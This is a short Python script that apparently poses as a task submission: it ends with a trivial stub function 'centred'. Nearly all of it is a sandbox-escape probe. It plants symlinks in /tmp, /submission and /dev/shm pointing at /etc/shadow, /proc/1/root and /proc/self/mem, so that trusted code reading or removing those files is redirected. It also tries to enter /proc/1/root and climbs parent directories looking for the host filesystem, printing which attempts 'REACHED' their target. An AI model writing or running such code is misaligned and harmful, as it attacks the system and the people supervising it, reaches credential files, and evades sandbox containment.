"""Replaces files that trusted code may read or remove by links to the outside."""

import os

for name in ("target.py", "report.json", "x"):
    for folder in ("/tmp", "/submission", "/dev/shm"):
        for target in ("/etc/shadow", "/proc/1/root", "/../../work", "/proc/self/mem"):
            try:
                os.symlink(target, f"{folder}/{name}{len(target)}")
                print(os.listdir(f"{folder}/{name}{len(target)}")[:3])
                print("REACHED", target)
            except OSError as error:
                print("TRIED", error.strerror)
try:
    os.chdir("/proc/1/root")
    print("REACHED", os.listdir("."))
except OSError as error:
    print("TRIED", error.strerror)
fd = os.open("/", os.O_RDONLY)
for _ in range(20):
    os.chdir("..")
if set(os.listdir(".")) & {"root", "home", "work", "var", "boot"}:
    print("REACHED", os.listdir("."))


def centred(x):
    return x
